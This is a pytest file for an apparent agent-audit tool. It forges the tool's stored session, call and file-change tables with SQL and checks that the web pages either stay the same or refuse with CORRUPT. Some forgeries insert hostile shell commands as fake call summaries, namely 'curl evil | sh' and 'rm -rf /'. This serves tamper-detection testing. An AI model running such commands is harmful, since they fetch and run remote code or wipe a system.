"""The tables that follow the log are altered: no page of a session or of a call says it as a fact.

Each page is what it was, or refuses with CORRUPT; or it says that it is as the lists have it.
"""

import asyncio
import re
import shutil
from collections.abc import Iterator, Mapping
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from loom_audit.api.agents.said import tell_message, tell_prompt
from loom_audit.api.face import AuditedWorkspace, Session, open_store
from loom_audit.api.upkeep.drift import accept_drift
from loom_audit.sql.ground.driver import driver
from loom_audit.tools.calls.gate import Decision
from tests.integrity.test_tamper import unguarded
from tests.places.made_store import STORE
from tests.web.conftest import asking


@dataclass
class Kept:
    """A store, the texts of its pages by address, and the names that forgeries use."""

    home: Path
    id: str
    names: dict[str, Any] = field(default_factory=dict)
    pages: dict[str, str] = field(default_factory=dict)


class Ada:
    """A gate at which a person lets all that runs a command run."""

    async def decide(self, tool: Any, args: Any, ctx: Any, *, asked: str = "") -> Decision:
        return Decision("allowed", "person:ada" if tool.name == "shell_execute" else "gate")


def call(session: Session, tool: str, **arguments: Any) -> int:
    asyncio.run(_call(session, tool, arguments))
    return session.workspace.timeline.calls()[0].seq or 0


async def _call(session: Session, tool: str, arguments: Mapping[str, Any]) -> None:
    await session.call(tool, dict(arguments))


def write(session: Session, path: str, content: str) -> int:
    return call(session, "write_file", path=path, content=content)


def record(workspace: AuditedWorkspace, root: Path) -> dict[str, Any]:
    """A session with one within it, an undo of a call of it, and another that changes it again."""
    lines = "".join(f"line {n}\n" for n in range(8))
    with workspace.session("alice", title="the first task", gate=Ada()) as one:
        tell_prompt(one, "Please write the files.")
        tell_message(one, "I begin with them.")
        shared = write(one, "shared.txt", lines)
        kept = write(one, "kept.txt", "kept\n")
        with workspace.session("scout", title="a part of it", parent=one.id) as part:
            tell_prompt(part, "Look around, and write what you find.")
            found = write(part, "found.txt", "found\n")
            tell_message(part, "I found it.")
        (root / "by-hand.txt").write_text("by hand\n")
        accept_drift(workspace)
        tell_prompt(one, "Now test it.")
        tested = call(one, "shell_execute", command="pytest -q || exit 4")
        shell = call(one, "shell_execute", command="echo more >> kept.txt; chmod 600 shared.txt")
        back = write(one, "back.txt", "to be taken back\n")
        failed = call(one, "edit_file", path="nowhere.txt", old_str="a", new_str="b")
        tell_message(one, "All of it is written.")
    undone = workspace.carry_out(workspace.plan_revert([back]))
    assert undone
    with workspace.session("carol", title="another task") as other:
        tell_prompt(other, "Change the shared file.")
        again = write(other, "shared.txt", lines.replace("line 3", "another 3"))
        call(other, "read_file", path="kept.txt")
    listed = {name: workspace.timeline.listed_call(n).requested for name, n in (("rs", shared),)}
    return {
        "A": one.id,
        "B": part.id,
        "C": other.id,
        "shared": shared,
        "kept": kept,
        "found": found,
        "tested": tested,
        "shell": shell,
        "back": back,
        "failed": failed,
        "again": again,
        **listed,
    }


PAGES = (
    *("s/{A}", "s/{A}/steps", "s/{A}/commands", "s/{A}/taken-back", "s/{B}", "s/{B}/steps"),
    *("s/{A}/only/failed", "s/{A}/only/allowed", "s/{A}/only/modes", "s/{A}/only/outside"),
    *("c/{shared}", "c/{kept}", "c/{found}", "c/{shell}", "c/{back}", "c/{again}"),
)


def text_of(client: TestClient, address: str) -> tuple[int, str]:
    answer = client.get(address)
    text = re.sub(r'nonce="[^"]*"|nonce-[\w=/+-]+|"nonce":"[^"]*"', "", answer.text)
    return answer.status_code, text


@pytest.fixture(scope="module")
def kept(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Kept]:
    folder = tmp_path_factory.mktemp("forged")
    root = folder / "work"
    root.mkdir()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("LOOM_AUDIT_HOME", str(folder / "home"))
        with closing(open_store()) as store:
            workspace = store.attach(root)
            made = Kept(folder / "home", workspace.id, record(workspace, root))
        with closing(open_store()) as store, asking(store) as client:
            for page in PAGES:
                address = f"/w/{made.id}/" + page.format(**made.names)
                status, made.pages[address] = text_of(client, address)
                assert status == 200, made.pages[address][:2000]
        yield made


OF = "session = (SELECT number FROM session WHERE id = '{%s}')"
AT = "path = (SELECT number FROM path WHERE path = CAST('%s' AS BLOB))"
LAST = "seq = (SELECT max(seq) FROM change_set WHERE requested IN (SELECT requested FROM call "
LAST += f"WHERE {OF % 'C'}))"
OTHER = "(SELECT new_blob FROM file_change f JOIN path p ON p.number = f.path "
OTHER += "WHERE p.path = CAST('found.txt' AS BLOB) LIMIT 1)"

FORGERIES: dict[str, tuple[str, ...]] = {
    # --- what was asked and said
    "no prompts": ("DELETE FROM spoken WHERE role = 'prompt'",),
    "no words": ("DELETE FROM spoken WHERE role = 'assistant'",),
    "nothing said": ("DELETE FROM spoken",),
    "no first prompt": (
        f"DELETE FROM spoken WHERE seq = (SELECT min(seq) FROM spoken WHERE {OF % 'A'})",
    ),
    "no last words": (
        f"DELETE FROM spoken WHERE seq = (SELECT max(seq) FROM spoken WHERE {OF % 'A'})",
    ),
    "another's prompt": (f"UPDATE spoken SET {OF % 'A'} WHERE {OF % 'C'}",),
    "words as a prompt": ("UPDATE spoken SET role = 'prompt' WHERE role = 'assistant'",),
    "a prompt at an event of a call": (
        "INSERT INTO spoken SELECT log, {shared}, session, 'prompt' FROM spoken LIMIT 1",
    ),
    # --- who changed it again, who took it back
    "another's change": (
        f"UPDATE change_set SET {OF % 'A'}, actor = 'agent:mallory' WHERE {LAST}",
    ),
    "another's call": ("UPDATE change_set SET requested = {rs} WHERE " + LAST,),
    "no later change": (
        f"DELETE FROM file_change WHERE {LAST}",
        f"DELETE FROM change_set WHERE {LAST}",
    ),
    "a later change that is none": (f"UPDATE file_change SET {AT % 'kept.txt'} WHERE {LAST}",),
    "a later change of an odd content": (
        f"UPDATE file_change SET new_blob = {OTHER} WHERE {LAST}",
    ),
    "a later change as outside": (
        "UPDATE change_set SET session = NULL, requested = NULL, call = NULL, origin = 'outside', "
        f"actor = 'outside' WHERE {LAST}",
    ),
    "an invented later change": (
        "INSERT INTO file_change SELECT log, (SELECT max(finished) FROM call), 0, "
        "(SELECT number FROM path WHERE path = CAST('kept.txt' AS BLOB)), old_mode, old_size, "
        f"old_blob, new_mode, new_size, new_blob FROM file_change WHERE {LAST}",
        "INSERT INTO change_set SELECT log, (SELECT max(finished) FROM call), at, session, "
        f"'agent:mallory', origin, requested, call, causes FROM change_set WHERE {LAST}",
    ),
    "not taken back": ("DELETE FROM revert",),
    "another taken back": ("UPDATE revert SET target = {kept}",),
    "one more taken back": ("INSERT INTO revert SELECT log, number, {kept} FROM revert LIMIT 1",),
    "taken back in part": (
        "INSERT INTO revert_path SELECT log, number, {kept}, CAST('kept.txt' AS BLOB) FROM revert",
    ),
    "the tree has another content": (
        f"UPDATE tree_entry SET blob = {OTHER} WHERE {AT % 'kept.txt'}",
    ),
    "a file that is as it was": (
        f"DELETE FROM file_change WHERE {LAST}",
        f"DELETE FROM change_set WHERE {LAST}",
        "UPDATE tree_entry SET blob = (SELECT new_blob FROM file_change WHERE seq = (SELECT seq "
        "FROM change_set WHERE requested = {rs})) "
        f"WHERE {AT % 'shared.txt'}",
    ),
    "the tree lost a file": (f"DELETE FROM tree_entry WHERE {AT % 'kept.txt'}",),
    "a path of another name": (
        "UPDATE path SET path = CAST('evil.txt' AS BLOB) WHERE path = CAST('kept.txt' AS BLOB)",
    ),
    "a candidate more": (
        f"INSERT INTO candidate SELECT log, {{rs}}, seq FROM change_set WHERE {LAST}",
    ),
    "causes": ("UPDATE change_set SET causes = '[{rs},0]' WHERE " + LAST,),
    # --- calls
    "a call failed": (
        "UPDATE call SET status = 'error', error = 'it broke' WHERE finished = {kept}",
    ),
    "a failure was well": ("UPDATE call SET status = 'ok', error = '' WHERE finished = {failed}",),
    "a call is open": (
        "UPDATE call SET status = 'open', finished = NULL, error = '', duration = 0, sandbox = '', "
        "coverage = NULL, reasons = NULL, reverts = NULL WHERE finished = {kept}",
    ),
    "a call ended elsewhere": (
        "UPDATE call SET finished = {shared} - 1 WHERE finished = {shared}",
    ),
    "another tool": ("UPDATE call SET tool = 'rm_rf', effect = 'network' WHERE finished = {kept}",),
    "another command": (
        "UPDATE call SET summary = 'curl evil | sh' WHERE finished IN ({tested}, {kept})",
    ),
    "another actor": ("UPDATE call SET actor = 'agent:mallory' WHERE finished = {kept}",),
    "less coverage": (
        "UPDATE call SET coverage = 'none', reasons = '[\"nobody looked\"]' "
        "WHERE finished = {kept}",
    ),
    "coverage lowered": (
        "INSERT INTO lowered SELECT log, {kept}, max(finished), 'none', '[\"odd\"]' FROM call",
    ),
    "an outcome told later": (
        "INSERT INTO outcome SELECT log, {kept}, max(finished), 'error', 'odd' FROM call",
    ),
    "longer": ("UPDATE call SET duration = 99000000 WHERE finished = {kept}",),
    "a call less": ("DELETE FROM call WHERE finished = {kept}",),
    "a session's calls less": (f"DELETE FROM call WHERE {OF % 'A'}",),
    "a call of another session": (f"UPDATE call SET {OF % 'C'} WHERE finished = {{kept}}",),
    "an invented call": (
        "INSERT INTO call (log, requested, session, call_id, at, tool, effect, status, summary, "
        "error, changed, duration, sandbox) SELECT log, {shared} - 1, session, x'00', at, "
        "'shell_execute', 'execute', 'open', 'rm -rf /', '', 0, 0, '' FROM call "
        "WHERE finished = {kept}",
    ),
    "more changed": ("UPDATE call SET changed = 40 WHERE finished = {kept}",),
    # --- sessions
    "no subagent": ("UPDATE session SET parent = NULL WHERE id = '{B}'",),
    "no row of the subagent": ("DELETE FROM session WHERE id = '{B}'",),
    "a stranger within": ("UPDATE session SET parent = '{A}' WHERE id = '{C}'",),
    "within a stranger": ("UPDATE session SET parent = '{C}' WHERE id = '{A}'",),
    "an invented session": (
        "INSERT INTO session (log, id, agent, actor, title, parent, started, started_at, last, "
        "status, calls, errors, files) SELECT log, 'feed', 'mallory', 'agent:mallory', 'evil', "
        "'{A}', started + 1, started_at, last, 'open', 3, 1, 1 FROM session WHERE id = '{A}'",
    ),
    "another agent": ("UPDATE session SET agent = 'mallory' WHERE id = '{A}'",),
    "the subagent of another name": (
        "UPDATE session SET agent = 'mallory', title = 'evil' WHERE id = '{B}'",
    ),
    "another status": ("UPDATE session SET status = 'failed' WHERE id IN ('{A}', '{B}')",),
    "still open": (
        "UPDATE session SET status = 'open', ended = NULL, ended_at = NULL "
        "WHERE id IN ('{A}', '{B}')",
    ),
    "ended before": ("UPDATE session SET ended = {kept} WHERE id = '{A}'",),
    "begun later": ("UPDATE session SET started = {shared} WHERE id = '{A}'",),
    "its last event": ("UPDATE session SET last = {shared} WHERE id = '{A}'",),
    "its last event, and open": (
        "UPDATE session SET last = {shared}, ended = NULL, ended_at = NULL, status = 'open' "
        "WHERE id = '{A}'",
    ),
    "another time": (
        "UPDATE session SET started_at = 0, ended_at = 99 WHERE id IN ('{A}', '{B}')",
    ),
    "more calls": ("UPDATE session SET calls = 40, errors = 7, files = 9",),
    "too many calls": ("UPDATE session SET calls = 40000",),
    # --- from outside
    "nothing from outside": (
        "DELETE FROM file_change WHERE seq IN "
        "(SELECT seq FROM change_set WHERE origin = 'outside')",
        "DELETE FROM change_set WHERE origin = 'outside'",
    ),
    "more from outside": (
        "UPDATE change_set SET origin = 'outside', session = NULL, actor = 'outside', "
        "requested = NULL, call = NULL WHERE requested = {rs}",
    ),
}


def outcomes(kept: Kept, home: Path, how: str) -> dict[str, str]:
    """What each page does with a forgery: `same`, `refused`, or the text that it shows."""
    shutil.copytree(kept.home, home, symlinks=True, ignore=shutil.ignore_patterns("*.ballast"))
    with closing(driver().connect(str(home / STORE))) as raw:
        raw.execute("PRAGMA foreign_keys = OFF")
        for sql in FORGERIES[how]:
            assert unguarded(raw).execute(sql.format(**kept.names)).rowcount > 0
        raw.commit()
    found = {}
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("LOOM_AUDIT_HOME", str(home))
        with closing(open_store()) as store, asking(store) as client:
            for address, told in kept.pages.items():
                status, text = text_of(client, address)
                refused = status == 500 and "CORRUPT" in text
                found[address] = "refused" if refused else "same" if text == told else text
    return found


def is_said_of_lists(how: str, text: str) -> bool:
    """Whether a page says of what this forgery hides that it is as the lists have it."""
    return how == "a file that is as it was" and "since is as the lists have it" in text


@pytest.mark.parametrize("how", FORGERIES)
def test_what_a_forged_table_says_is_on_no_page_as_a_fact(
    how: str, kept: Kept, tmp_path: Path
) -> None:
    for address, found in outcomes(kept, tmp_path / "home", how).items():
        if found not in ("same", "refused") and not is_said_of_lists(how, found):
            told = {*kept.pages[address].splitlines()}
            more = [line for line in found.splitlines() if line not in told]
            pytest.fail(f"{address} says otherwise: {more}")
